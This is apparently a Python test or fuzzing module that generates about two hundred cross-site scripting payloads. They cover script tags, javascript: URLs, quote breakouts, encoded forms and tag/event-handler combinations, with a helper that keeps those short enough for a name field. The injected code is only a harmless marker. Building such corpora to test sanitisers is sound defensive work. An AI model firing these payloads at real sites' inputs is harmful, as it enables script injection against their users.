"""Two hundred ways to smuggle a script into a page."""

from __future__ import annotations

from itertools import product
from typing import Final

RUN: Final = "hacked=1"
TAGS: Final = ("img", "svg", "iframe", "body", "video", "audio", "object", "embed", "input", "details")
EVENTS: Final = ("onerror", "onload", "onfocus", "onclick", "onmouseover", "ontoggle")
WHOLE: Final = (
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script src=data:,{RUN}>",
    f"<a href=javascript:{RUN}>x</a>",
    f"javascript:{RUN}",
    f"{{@html {RUN}}}",
    f"${{{RUN}}}",
    f"{{{{{RUN}}}}}",
    f"<style>@import'javascript:{RUN}'",
    f'"><script>{RUN}</script>',
    f"'><script>{RUN}</script>",
    f"`><script>{RUN}</script>",
    f"<!--><script>{RUN}</script>",
    f"<math><mtext></p><script>{RUN}",
    f"<base href=javascript:{RUN}//>",
    f"<form action=javascript:{RUN}>",
    f"<template><script>{RUN}</script>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"%3Cscript%3E{RUN}%3C/script%3E",
)
QUOTES: Final = ("", "'", '"')


def payloads() -> list[str]:
    """All of them, each short enough for a line of chat."""
    made = [f"<{tag} src=x {event}={q}{RUN}{q}>" for tag, event, q in product(TAGS, EVENTS, QUOTES)]
    return [*WHOLE, *made]


def short_payloads() -> list[str]:
    """Those that fit into a name."""
    return [one for one in payloads() if len(one) <= 32]
